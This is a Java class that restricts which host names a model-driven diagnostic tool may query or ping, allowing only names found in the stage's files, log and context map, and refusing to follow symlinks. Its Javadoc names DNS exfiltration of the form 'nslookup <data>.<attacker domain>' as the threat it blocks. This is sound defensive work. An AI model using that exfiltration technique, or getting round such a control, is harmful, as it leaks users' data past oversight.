package dev.engine.escalation.diagnostics;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Host names and addresses a diagnostic may name: every word of the stage's files, its failure log
 * and the context map (issue 12). A DNS query or a ping for a name that appears in none of them is
 * refused, so a model cannot send data out as {@code nslookup <data>.<attacker domain>}: every
 * resolver on the way would see the query.
 *
 * <p>Words are cut at every character that cannot be part of a host name, so
 * {@code https://grafana.lan:3000/x} knows {@code grafana.lan}; a second cut keeps colons, for
 * IPv6 addresses. Matching is exact, case-insensitive and ignores one trailing dot: a known
 * {@code example.internal} does not make {@code x.example.internal} known.
 */
public final class KnownNames {
    /** Stage files are read up to these limits; the rest is not consulted (names there are refused). */
    static final long MAX_FILE_BYTES = 1 << 20;
    static final long MAX_TOTAL_BYTES = 8L << 20;
    static final int MAX_FILES = 2000;

    private static final KnownNames NONE = new KnownNames(Set.of());

    private final Set<String> names;

    private KnownNames(Set<String> names) {
        this.names = Set.copyOf(names);
    }

    /** Nothing is known: every DNS query or host refers to an invented name. */
    public static KnownNames none() {
        return NONE;
    }

    /** The names in {@code texts}. */
    public static KnownNames of(Collection<String> texts) {
        Set<String> names = new HashSet<>();
        for (String text : texts) {
            if (text != null) {
                collect(text, names);
            }
        }
        return new KnownNames(names);
    }

    public static KnownNames of(String... texts) {
        return of(List.of(texts));
    }

    /** These names and the ones in {@code more}. */
    public KnownNames plus(Collection<String> more) {
        Set<String> all = new HashSet<>(names);
        for (String text : more) {
            if (text != null) {
                collect(text, all);
            }
        }
        return new KnownNames(all);
    }

    /**
     * The text of what a stage diagnosis may refer to: the stage's files (directories walked) under
     * {@code root}, its failure log and the context map. Unreadable or missing files are skipped;
     * symlinks are never followed, so a link planted in the workspace cannot make the words of a
     * file outside it (a key, a kubeconfig) known.
     */
    public static List<String> readSources(Path root, List<String> stageFiles, Path log, Path contextMap) {
        List<String> texts = new ArrayList<>();
        long[] budget = {MAX_TOTAL_BYTES};
        int[] files = {MAX_FILES};
        Path base = realPath(root);
        if (base != null) {
            for (String f : stageFiles) {
                Path p = realPath(base.resolve(f));
                // A link anywhere on the way (the file itself or a folder above it) that leads out of the workspace.
                if (p == null || !p.startsWith(base)) {
                    continue;
                }
                if (Files.isDirectory(p, LinkOption.NOFOLLOW_LINKS)) {
                    try (Stream<Path> walk = Files.walk(p, 8)) {
                        walk.filter(x -> Files.isRegularFile(x, LinkOption.NOFOLLOW_LINKS)).sorted()
                                .forEach(x -> read(x, texts, budget, files));
                    } catch (IOException | RuntimeException e) {
                        // an unreadable directory adds no names
                    }
                } else {
                    read(p, texts, budget, files);
                }
            }
        }
        if (log != null) {
            read(log, texts, budget, files);
        }
        if (contextMap != null) {
            read(contextMap, texts, budget, files);
        }
        return texts;
    }

    private static Path realPath(Path p) {
        try {
            return p == null ? null : p.toRealPath();
        } catch (IOException | RuntimeException e) {
            return null;
        }
    }

    private static void read(Path p, List<String> texts, long[] budget, int[] files) {
        if (files[0] <= 0 || budget[0] <= 0 || !Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)) {
            return;
        }
        try (InputStream in = Files.newInputStream(p, LinkOption.NOFOLLOW_LINKS)) {
            byte[] bytes = in.readNBytes((int) Math.min(MAX_FILE_BYTES, budget[0]));
            budget[0] -= bytes.length;
            files[0]--;
            texts.add(new String(bytes, StandardCharsets.UTF_8));
        } catch (IOException | RuntimeException e) {
            // unreadable: adds no names
        }
    }

    /** Whether {@code name} (a host name or address as given to a tool) is known. */
    public boolean contains(String name) {
        return names.contains(normalize(name));
    }

    public boolean isEmpty() {
        return names.isEmpty();
    }

    static String normalize(String name) {
        String n = name.toLowerCase(Locale.ROOT);
        return n.endsWith(".") && n.length() > 1 ? n.substring(0, n.length() - 1) : n;
    }

    /**
     * One pass over the text (a regex per word was ten times slower on a few MB of stage files):
     * runs of host-name characters are words, trimmed of dots and dashes at their ends; runs that
     * also take colons are kept when they look like an IPv6 address.
     */
    private static void collect(String text, Set<String> into) {
        int word = -1;
        int address = -1;
        for (int i = 0; i <= text.length(); i++) {
            char c = i < text.length() ? text.charAt(i) : ' ';
            boolean hostChar = c < 0x80 && (Character.isLetterOrDigit(c) || c == '.' || c == '-' || c == '_');
            boolean addressChar = c < 0x80 && (Character.digit(c, 16) >= 0 || c == ':' || c == '.');
            if (hostChar && word < 0) {
                word = i;
            } else if (!hostChar && word >= 0) {
                add(text, word, i, into);
                word = -1;
            }
            if (addressChar && address < 0) {
                address = i;
            } else if (!addressChar && address >= 0) {
                String a = trim(text.substring(address, i), ":.");
                if (a.length() > 2 && a.indexOf(':') >= 0) {
                    into.add(normalize(a));
                }
                address = -1;
            }
        }
    }

    private static void add(String text, int from, int to, Set<String> into) {
        String w = trim(text.substring(from, to), ".-");
        if (!w.isEmpty()) {
            into.add(normalize(w));
        }
    }

    private static String trim(String s, String chars) {
        int a = 0;
        int b = s.length();
        while (a < b && chars.indexOf(s.charAt(a)) >= 0) {
            a++;
        }
        while (b > a && chars.indexOf(s.charAt(b - 1)) >= 0) {
            b--;
        }
        return s.substring(a, b);
    }
}
